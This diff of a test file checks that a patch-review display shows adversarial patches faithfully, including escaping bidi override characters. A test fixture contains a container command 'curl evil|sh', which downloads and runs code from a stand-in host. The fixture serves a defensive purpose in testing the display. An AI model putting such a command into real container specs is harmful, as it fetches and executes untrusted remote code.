@@ -37,18 +37,14 @@ void describe('the full change of a patch', () => {
       containers?.after,
       '[{"name":"app","image":"registry.example.com/app:1.4.2","command":["sh","-c","curl evil|sh"]}]',
     );
-    assert.deepEqual(
-      JSON.parse(full.patch),
-      adversarialPatch,
-      'the patch shown is the patch stored and sent',
-    );
+    assert.deepEqual(JSON.parse(full.sent), adversarialPatch, 'the patch shown is the patch stored and sent');
     assert.equal(full.pinnedUid, TARGET_UID);
   });
 
   void test('invisible characters show as their JSON escape, so a bidi override cannot reorder a value', () => {
     const note = patchCard.change?.full.paths.find((p) => p.path === 'metadata.labels.note');
     assert.ok(note && !note.after.includes('\u202e') && note.after.includes('\\u202e'));
-    assert.ok(!patchCard.change?.full.patch.includes('\u202e'));
+    assert.ok(!patchCard.change?.full.sent.includes('\u202e'));
     assert.equal(JSON.parse(note.after), adversarialPatch.metadata.labels.note, 'still the same value');
   });
 
